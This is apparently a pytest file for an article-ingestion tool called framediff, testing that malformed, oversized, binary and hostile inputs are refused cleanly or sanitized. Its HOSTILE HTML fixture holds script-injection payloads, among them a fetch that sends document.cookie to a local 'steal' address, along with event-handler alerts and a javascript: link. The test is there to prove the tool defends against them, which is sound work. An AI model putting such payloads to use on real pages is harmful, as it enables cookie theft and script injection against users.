"""Bad and hostile input: a result or one clear line (InputError / exit 2), never a crash or a hang."""
from __future__ import annotations

import os
import random
import socket
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest
from conftest import ROOT, seed

from framediff.errors import InputError
from framediff.ingest import article_from_text, read_article
from framediff.ingest.reader import MAX_BYTES, MAX_TEXT_CHARS
from framediff.segment import segment

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20
STORY = ("Foreign ministers met in Tokyo on Friday for talks on the disputed islands. "
         "\"We agreed to keep talking,\" the Russian minister told reporters. "
         "Japan said its new missile shield posed no threat to Russia.")


def refused(path) -> str:
    with pytest.raises(InputError) as e:
        read_article(path)
    message = str(e.value)
    assert "\n" not in message and str(path) in message
    return message


def test_missing_file(tmp_path):
    assert "no such file" in refused(tmp_path / "nope.txt")


def test_directory(tmp_path):
    assert "folder" in refused(tmp_path)


@pytest.mark.parametrize("content", [b"", b"   \n\r\n\t  \n"])
def test_empty_or_blank_file(tmp_path, content):
    path = tmp_path / "empty.txt"
    path.write_bytes(content)
    assert "empty" in refused(path)


@pytest.mark.parametrize("name,data,kind", [
    ("photo.txt", PNG, "image/png"),
    ("archive.txt", zlib.compress(random.Random(0).randbytes(20_000)), "not a text"),
    ("small-archive.txt", zlib.compress(b"hello world" * 300), "binary data"),
    ("program.html", Path(sys.executable).read_bytes()[:200_000], "not a text"),
])
def test_binary_files(tmp_path, name, data, kind):
    path = tmp_path / name
    path.write_bytes(data)
    assert kind in refused(path)


def test_only_markup_or_punctuation(tmp_path):
    path = tmp_path / "blank.html"
    path.write_text("<html><body><script>alert(1)</script><p> - </p></body></html>")
    assert "no article text" in refused(path)


def test_a_file_name_with_a_newline_still_gives_one_line(tmp_path):
    path = tmp_path / "evil\nname\x1b[31m.txt"
    path.write_bytes(PNG)
    with pytest.raises(InputError) as e:
        read_article(path)
    assert "\n" not in str(e.value) and "\x1b" not in str(e.value) and "evil\\nname" in str(e.value)


def test_named_pipe_is_refused_without_blocking(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    assert "not a regular file" in refused(fifo)


def test_unreadable_file(tmp_path):
    if os.geteuid() == 0:
        pytest.skip("running as root: file permissions do not stop root from reading")
    path = tmp_path / "secret.txt"
    path.write_text(STORY)
    path.chmod(0)
    assert "permission denied" in refused(path)


@pytest.mark.parametrize("megabytes", [20, 200])
def test_huge_files_are_refused_at_once_saying_what_is_supported(tmp_path, megabytes):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as fh:
        fh.truncate(megabytes * 2**20)  # sparse: no disk or time spent
    start = time.monotonic()
    message = refused(path)
    assert time.monotonic() - start < 1
    assert f"{megabytes} MB" in message and f"up to {MAX_BYTES // 2**20} MB" in message


def _long_text(chars: int) -> str:
    paragraphs, i = ["Talks on the islands end without a deal"], 0
    while sum(map(len, paragraphs)) < chars:
        i += 1
        paragraphs.append(f"In round {i} the ministers of both countries met again in Tokyo. " + STORY)
    return "\n\n".join(paragraphs)


def test_text_longer_than_supported_is_refused_with_the_limit(tmp_path):
    path = tmp_path / "long.txt"
    path.write_text(_long_text(MAX_TEXT_CHARS + 100_000))
    assert f"up to {MAX_TEXT_CHARS:,} characters" in refused(path)


@pytest.mark.parametrize("raw", ["word " * (MAX_BYTES // 4), "<p>" + "word " * (MAX_BYTES // 4) + "</p>"])
def test_pasted_text_far_beyond_the_limit_is_refused_before_any_work(raw):
    start = time.monotonic()
    with pytest.raises(InputError, match=f"up to {MAX_TEXT_CHARS:,} characters"):
        article_from_text(raw)
    assert time.monotonic() - start < 1


def test_a_long_real_sized_article_is_read(tmp_path):
    path = tmp_path / "long.txt"
    path.write_text(_long_text(min(MAX_TEXT_CHARS - 20_000, 180_000)))  # book length: bench/speed.py
    a = segment(read_article(path))
    assert len(a.units) > 2000 and a.title == "Talks on the islands end without a deal"


HOSTILE = """<!DOCTYPE html><html><head><title>Islands talks end without a deal</title>
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/refresh">
<style>body { background: url(http://127.0.0.1:9/bg.png) } .secret-style { color: red }</style>
<script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie); alert("script-ran");</script>
<link rel="stylesheet" href="http://127.0.0.1:9/style.css"></head>
<body onload="alert('onload-ran')">
<article><h1>Islands talks end without a deal</h1>
<p>Foreign ministers met in Tokyo on Friday for talks on the disputed islands, officials said.</p>
<p>"We agreed to keep talking," the Russian minister told reporters after the meeting.
<img src="http://127.0.0.1:9/pixel.gif" onerror="alert('img-ran')"></p>
<iframe src="http://127.0.0.1:9/frame.html">iframe-fallback-text</iframe>
<p>Japan said its new missile shield posed no threat to Russia.
<a href="javascript:alert('link-ran')">Read more</a></p>
<script>document.write("<p>Injected paragraph written by a script.</p>");</script>
<svg onload="alert('svg-ran')"><script>alert('svg-script')</script></svg>
<noscript>noscript-fallback-text</noscript>
<p onclick="alert('click-ran')">Analysts said the gap between the two sides remained wide.</p>
<object data="http://127.0.0.1:9/x.swf">object-fallback-text</object>
</article></body></html>"""


def test_hostile_html_never_runs_fetches_or_leaks(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("ingest tried to reach the network")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE)
    a = segment(read_article(path))
    assert [u.text for u in a.units] == [
        "Islands talks end without a deal",
        "Foreign ministers met in Tokyo on Friday for talks on the disputed islands, officials said.",
        "\"We agreed to keep talking,\" the Russian minister told reporters after the meeting.",
        "Japan said its new missile shield posed no threat to Russia.",
        "Analysts said the gap between the two sides remained wide.",
    ]
    for leak in ("alert", "ran", "script", "javascript", "127.0.0.1", "http", "<", "secret-style",
                 "Injected", "fallback", "cookie"):
        assert leak not in a.text and leak not in a.title


def test_markup_in_page_metadata_never_reaches_the_article():
    page = HOSTILE.replace("<title>", '<meta name="author" content="&lt;img src=x onerror=alert(1)&gt;Jane Roe">'
                           '<meta property="og:site_name" content="<b onmouseover=alert(2)>Daily</b>"><title>')
    a = article_from_text(page)
    assert (a.author, a.outlet) == ("Jane Roe", "Daily")


def test_hostile_html_pasted_into_a_txt_file_is_treated_as_html(tmp_path):
    path = tmp_path / "hostile.txt"
    path.write_text(HOSTILE)
    a = read_article(path)
    assert "alert" not in a.text and a.text.startswith("Islands talks end without a deal\n\n")


def test_absurdly_nested_html_gives_a_clear_line():
    raw = "<html><body>" + "<div>" * 100_000 + "<p>" + STORY + "</p>" + "</div>" * 100_000 + "</body></html>"
    try:
        a = article_from_text(raw)
    except InputError as e:
        assert "no article text" in str(e)
    else:
        assert "alert" not in a.text


# The command line: exit 2, one line on stderr, no traceback, the user's files untouched.

def run_cli(*args):
    return subprocess.run([sys.executable, "-m", "framediff", *map(str, args)], capture_output=True,
                          text=True, cwd=ROOT, timeout=120)


def assert_one_line_exit_2(p, *words):
    lines = [ln for ln in p.stderr.splitlines() if ln.strip()]
    assert p.returncode == 2 and len(lines) == 1 and "Traceback" not in p.stderr, p.stderr
    assert lines[0].startswith("framediff: ") and all(w in lines[0] for w in words), lines[0]


def test_cli_bad_inputs_exit_2_and_leave_existing_output(tmp_path):
    keep = tmp_path / "keep.json"
    keep.write_text("precious")
    png = tmp_path / "photo.txt"
    png.write_bytes(PNG)
    huge = tmp_path / "huge.txt"
    with open(huge, "wb") as fh:
        fh.truncate(200 * 2**20)
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    blank = tmp_path / "blank.txt"
    blank.write_bytes(b"\x00\x00\n\n")
    for bad, words in [(png, ("photo.txt", "image/png")), (huge, ("huge.txt", "200 MB")),
                       (fifo, ("pipe.txt", "regular file")), (blank, ("blank.txt",))]:
        assert_one_line_exit_2(run_cli("compare", seed("003"), bad, "--json", keep), *words)
    assert_one_line_exit_2(run_cli("analyse", png, "--json", keep), "photo.txt")
    assert keep.read_text() == "precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blank.txt", "huge.txt", "keep.json", "photo.txt",
                                                          "pipe.txt"]


def test_cli_output_folder_is_refused(tmp_path):
    assert_one_line_exit_2(run_cli("analyse", seed("003"), "--json", tmp_path), "folder")


@pytest.mark.parametrize("depth", [260, 3000])
def test_markup_nested_deeper_than_lxml_reads_still_gives_its_text(depth):
    """Found by the battery: below a depth of 255 lxml drops everything, and the page had "no article text"."""
    page = (f"<html><head><script>var x = '<p>not this</p>';</script></head><body>{'<b>' * depth}"
            f"<p>{STORY}</p>{'</b>' * depth}</body></html>")
    article = segment(article_from_text(page, is_html=True))
    assert [u.text for u in article.units] == [
        "Foreign ministers met in Tokyo on Friday for talks on the disputed islands.",
        "\"We agreed to keep talking,\" the Russian minister told reporters.",
        "Japan said its new missile shield posed no threat to Russia."]
